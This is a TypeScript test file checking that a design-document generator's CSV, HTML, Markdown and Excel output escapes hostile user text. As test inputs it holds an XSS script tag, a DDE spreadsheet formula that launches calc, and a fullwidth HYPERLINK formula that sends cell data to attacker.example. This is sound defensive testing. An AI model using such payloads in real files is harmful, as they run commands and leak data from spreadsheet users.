import { createHash } from 'crypto';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import * as zlib from 'zlib';
import { exampleInput, parseCsv } from './support';
import { BLUEPRINTS } from '../../examples/blueprints';
import { allTables, DesignDocuments } from '../../src/docs/document';
import { buildDesignDocuments } from '../../src/docs/model';
import { renderCsv, renderHtml, renderMarkdown, renderWorkbook } from '../../src/docs/render';

const HOSTILE = '<script>alert("x")</script>, "quoted"\nnext line';
const FORMULA = '=cmd|\' /C calc\'!A0';
/** A formula in fullwidth characters, which a Japanese-locale spreadsheet may read as one. */
const FULLWIDTH_FORMULA = '＝HYPERLINK("https://attacker.example/?d="&A1,"詳細")';
const MUNICIPALITY = '=1+2 @Sample City';

/**
 * The α′ example with hostile text where a user writes free text: flow purposes, the label, and the municipality's name
 * (validation keeps markup out of that one, since it is a tag value, but not a leading `=`).
 */
function hostileDocs(language: 'ja' | 'en' = 'ja'): DesignDocuments {
  const input = exampleInput('cdk', 'alpha-prime');
  const flows = input.blueprint!.flows!.map((f, i) => (i === 0 ? { ...f, purpose: HOSTILE } : i === 1 ? { ...f, purpose: FORMULA }
    : i === 2 ? { ...f, purpose: FULLWIDTH_FORMULA } : f));
  return buildDesignDocuments({
    ...input,
    language,
    date: '2026-04-01',
    label: '取扱注意 <b>&</b>',
    blueprint: { ...input.blueprint!, municipality: MUNICIPALITY, flows },
  });
}

/** The entries of a zip archive (APPNOTE 4.3: central directory, local headers; stored or deflated). */
function unzip(zip: Buffer): Record<string, Buffer> {
  let eocd = zip.length - 22;
  while (eocd >= 0 && zip.readUInt32LE(eocd) !== 0x06054b50) eocd--;
  const out: Record<string, Buffer> = {};
  let at = zip.readUInt32LE(eocd + 16);
  for (let n = zip.readUInt16LE(eocd + 10); n > 0; n--) {
    const method = zip.readUInt16LE(at + 10);
    const size = zip.readUInt32LE(at + 20);
    const name = zip.toString('utf8', at + 46, at + 46 + zip.readUInt16LE(at + 28));
    const local = zip.readUInt32LE(at + 42);
    const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
    const data = zip.subarray(start, start + size);
    out[name] = method === 8 ? zlib.inflateRawSync(data) : Buffer.from(data);
    at += 46 + zip.readUInt16LE(at + 28) + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
  }
  return out;
}

describe('renderers', () => {
  const docs = hostileDocs();
  const hostileFlow = BLUEPRINTS['alpha-prime'].flows![0].name;

  test('CSV: one file per table, BOM, CRLF, RFC 4180 quoting; parses back to the model, formulas neutralised', () => {
    const files = renderCsv(docs);
    expect(Object.keys(files)).toEqual(allTables(docs).map((t) => `${t.id}.csv`));
    for (const t of allTables(docs)) {
      const text = files[`${t.id}.csv`];
      expect(text.startsWith('\uFEFF')).toBe(true);
      const rows = parseCsv(text.slice(1));
      expect(rows[0]).toEqual(t.columns.map((c) => c.header));
      // Every cell comes back as written, but for those a spreadsheet would take for a formula, which get a leading '.
      const back = t.rows.map((r) => r.cells.map((c) => (/^[ \u3000]*[=+\-@＝＋－＠]/.test(c) ? `'${c}` : c)));
      expect(rows.slice(1)).toEqual(back.map((r) => r.map((c) => c.replace(/\n/g, '\r\n'))));
    }
    const flows = parseCsv(files['flows.csv'].slice(1));
    const purpose = flows[0].indexOf('目的');
    expect(flows.find((r) => r[0] === hostileFlow)![purpose]).toBe(HOSTILE.replace(/\n/g, '\r\n'));
    expect(flows.some((r) => r[purpose] === `'${FORMULA}`)).toBe(true);
    expect(flows.some((r) => r[purpose] === `'${FULLWIDTH_FORMULA}`)).toBe(true);
    expect(files['flows.csv']).not.toMatch(/(^|,)"?=cmd/m);
    expect(parseCsv(files['evidence.csv'].slice(1)).find((r) => r[0] === '団体名')).toEqual(['団体名', `'${MUNICIPALITY}`]);
  });

  test('HTML: self-contained, escaped, one section per document with stable ids and data attributes', () => {
    const page = renderHtml(docs);
    expect(page).not.toMatch(/<script|<b>/i);
    expect(page).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    expect(page).toContain('<div class="label" data-label>取扱注意 &lt;b&gt;&amp;&lt;/b&gt;</div>');
    expect(page).not.toMatch(/\b(src|href)="(https?:)?\/\//);
    for (const d of docs.documents) expect(page).toContain(`<section id="doc-${d.id}" data-document="${d.id}">`);
    for (const f of BLUEPRINTS['alpha-prime'].flows!) expect(page).toContain(`data-flow="${f.name}"`);
    expect(page).toMatch(/<tr data-result="PASS" data-rule="MN-1">/);
    expect(page).toMatch(/data-segment="MY_NUMBER"/);
    expect(page).not.toContain('id="diagram"');
  });

  test('HTML: the diagram slot embeds the SVG inline, and refuses anything else', () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>';
    const page = renderHtml(docs, { diagramSvg: `<?xml version="1.0"?>\n${svg}` });
    expect(page).toContain('<section id="diagram" data-document="diagram" class="diagram">');
    expect(page).toContain(svg);
    expect(page).toContain('href="#diagram"');
    expect(() => renderHtml(docs, { diagramSvg: '<script>alert(1)</script>' })).toThrow(/must be an SVG/);
  });

  test('Markdown: pipes, HTML and line breaks in cells cannot break the table', () => {
    const md = renderMarkdown(docs);
    expect(md).not.toMatch(/<script|<b>/i);
    const line = md.split('\n').find((l) => l.startsWith(`| ${hostileFlow.replace(/-/g, '\\-')} |`))!;
    expect(line).toContain('&lt;script&gt;alert\\(&quot;x&quot;\\)&lt;/script&gt;, &quot;quoted&quot;<br>next line');
    const columns = allTables(docs).find((t) => t.id === 'flows')!.columns.length;
    // Unescaped pipes delimit the cells: exactly one more than the columns.
    expect(line.split(/(?<!\\)\|/).length).toBe(columns + 2);
  });

  test('Excel: one sheet per table, read back with read-excel-file; text stays text', async () => {
    const buffer = await renderWorkbook(docs);
    const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'jichitai-docs-xlsx-')), 'docs.xlsx');
    fs.writeFileSync(file, buffer);
    // read-excel-file's types are an ES module's; its Node entry point is CommonJS too.
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const readXlsxFile = require('read-excel-file/node') as (file: string) => Promise<{ sheet: string; data: unknown[][] }[]>;
    const sheets = await readXlsxFile(file);
    const tables = allTables(docs);
    expect(sheets.length).toBe(tables.length + 1);
    expect(sheets[0].data.slice(2).map((r) => r[1])).toEqual(docs.facts.map((f) => f.value));
    tables.forEach((t, i) => {
      const data = sheets[i + 1].data;
      expect(String(data[0][0])).toBe(`${docs.label} — ${t.title}`);
      expect(data[1]).toEqual(t.columns.map((c) => c.header));
      const rows = data.slice(2, 2 + t.rows.length).map((r) => r.map((c) => (c === null ? '' : String(c))));
      expect(rows).toEqual(t.rows.map((r) => [...r.cells]));
    });
    // No formula anywhere: every cell is a shared string.
    const xml = Object.entries(unzip(buffer)).filter(([n]) => n.startsWith('xl/worksheets/')).map(([, v]) => v.toString('utf8')).join('');
    expect(xml).not.toMatch(/<f[ >]/);
  });

  test('byte-identical across two runs (the workbook too)', async () => {
    const again = hostileDocs();
    expect(renderHtml(again)).toBe(renderHtml(docs));
    expect(renderMarkdown(again)).toBe(renderMarkdown(docs));
    expect(renderCsv(again)).toEqual(renderCsv(docs));
    const a = await renderWorkbook(docs);
    // write-excel-file stamps the zip entries with the clock: wait past the 2-second resolution of zip times.
    await new Promise((r) => setTimeout(r, 2100));
    const b = await renderWorkbook(again);
    expect(createHash('sha256').update(b).digest('hex')).toBe(createHash('sha256').update(a).digest('hex'));
  });

  test('English renders too', () => {
    const en = hostileDocs('en');
    const page = renderHtml(en);
    expect(page).toContain('<html lang="en">');
    expect(page).toContain('Communication matrix (通信要件一覧)');
    expect(renderMarkdown(en)).toContain('## Guideline conformance \\(ガイドライン対応表\\) and audit evidence');
  });
});
